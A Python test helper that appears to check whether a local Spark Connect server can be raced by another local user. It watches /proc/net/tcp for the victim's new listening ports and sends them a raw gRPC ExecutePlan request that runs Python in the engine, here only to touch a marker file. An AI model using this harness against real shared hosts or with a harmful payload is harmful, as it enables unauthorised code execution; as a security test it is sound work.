"""A process that sends a request to what begins to listen."""

from __future__ import annotations

import struct
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from uuid import uuid4

#: Frames of HTTP/2, and the flags of those here: nothing follows in this header or stream.
_DATA, _HEADERS, _SETTINGS = 0, 1, 4
_END_STREAM, _END_HEADERS = 1, 4
_MOST = 16_384
_HEADER = {
    ":method": "POST",
    ":scheme": "http",
    ":path": "/spark.connect.SparkConnectService/ExecutePlan",
    ":authority": "127.0.0.1",
    "content-type": "application/grpc",
    "te": "trailers",
}
#: Standard library only, and no packages: it starts at once. Each port of a process gets the request once; other
#: processes of this machine, which may be audits of somebody else, get none.
_PROGRAM = """
import os, socket, sys, threading, time
user, request = int(sys.argv[1]), open(sys.argv[2], "rb").read()
print("waits", flush=True)
victim = sys.stdin.readline().strip()
if user:
    os.setgroups([]), os.setgid(user), os.setuid(user)
threading.Thread(target=lambda: (sys.stdin.read(), os._exit(0)), daemon=True).start()

def is_of_victim(inode):
    try:
        return f"socket:[{inode}]" in {os.readlink(each.path) for each in os.scandir(f"/proc/{victim}/fd")}
    except OSError:
        return False

def listeners():
    with open("/proc/net/tcp") as table:
        found = [line.split() for line in table if line.split()[3] == "0A"]
    return {(int(each[1][9:], 16), each[9]) for each in found}

known, held = set(), []
while not time.sleep(0.0005):
    for port, inode in listeners() - known:
        known.add((port, inode))
        if victim != "anybody" and not is_of_victim(inode):
            continue
        try:
            held.append(socket.socket())
            held[-1].settimeout(0.2)
            held[-1].connect(("127.0.0.1", port))
            held[-1].sendall(request)
        except OSError:
            continue
        print(port, flush=True)
"""


def executes(spark: Any, marker: Path) -> bytes:
    """What a client sends to run Python in the engine, which writes a file."""
    from pyspark.sql.connect.proto import ExecutePlanRequest

    name = str(marker)

    def mark(batches: Iterator[Any]) -> Iterator[Any]:
        Path(name).touch()
        yield from batches

    plan = spark.range(1).mapInArrow(mark, "id LONG")._plan.to_proto(spark.client)
    request = ExecutePlanRequest(session_id=str(uuid4()), plan=plan)
    request.user_context.user_id = "neighbour"
    return _sent(request.SerializeToString())


def _sent(message: bytes) -> bytes:
    """A call of gRPC as bytes of HTTP/2."""
    header = b"".join(b"\0" + _text(name) + _text(value) for name, value in _HEADER.items())
    content = struct.pack(">BI", 0, len(message)) + message
    pieces = [content[at : at + _MOST] for at in range(0, len(content), _MOST)]
    frames = [_frame(_SETTINGS, 0, 0, b""), _frame(_HEADERS, _END_HEADERS, 1, header)]
    frames += [_frame(_DATA, 0, 1, piece) for piece in pieces]
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"".join([*frames, _frame(_DATA, _END_STREAM, 1, b"")])


def _text(text: str) -> bytes:
    return bytes([len(text)]) + text.encode()


def _frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
    return len(content).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + content


@contextmanager
def neighbour(request: bytes, folder: Path, user: int = 0) -> Iterator[Neighbour]:
    """A process that waits for another. `user`: who it becomes; the kernel treats those of this one alike."""
    file = folder / "request"
    file.write_bytes(request)
    command = [sys.executable, "-I", "-S", "-c", _PROGRAM, str(user), str(file)]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdin is not None
        assert process.stdout is not None
        assert process.stdout.readline() == "waits\n"
        try:
            yield Neighbour(process)
        finally:
            process.stdin.close()


@dataclass(frozen=True)
class Neighbour:
    """A running one."""

    process: subprocess.Popen[str]

    def waits_for(self, victim: object) -> None:
        """For a process to listen, or for `anybody`, where nobody else can be harmed."""
        assert self.process.stdin is not None
        self.process.stdin.write(f"{victim}\n")
        self.process.stdin.flush()

    def ports(self) -> list[int]:
        """Where it sent everything. Ends it."""
        assert self.process.stdin is not None
        assert self.process.stdout is not None
        self.process.stdin.close()
        return list(map(int, self.process.stdout.read().split()))
